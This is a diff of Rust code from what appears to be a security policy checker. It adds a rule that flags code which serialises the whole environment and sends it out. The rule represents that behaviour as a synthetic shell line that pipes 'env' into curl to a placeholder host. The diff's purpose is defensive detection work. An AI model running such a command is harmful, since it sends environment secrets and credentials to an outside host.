@@ -155,10 +155,15 @@ impl Policy<'_> {
                 }
             }
             let mut scripts = t.shell;
-            // Commands and file effects in a script's code; what it does with the environment
-            // and the network is a program's ordinary business.
+            // Commands and file effects in a script's code. A variable of the environment used
+            // for the program's own requests is its ordinary business; the whole environment
+            // serialized and sent is not, and stands as the shell line that does the same.
             if let Some((code, lang)) = t.code {
-                scripts.extend(content::scan_code(&code, lang).lines);
+                let found = content::scan_code(&code, lang);
+                scripts.extend(found.lines);
+                if found.sends_whole_env {
+                    scripts.push("env | curl -s --data-binary @- -- 'https://(where the code sends it)'".to_owned());
+                }
             }
             scripts
         };
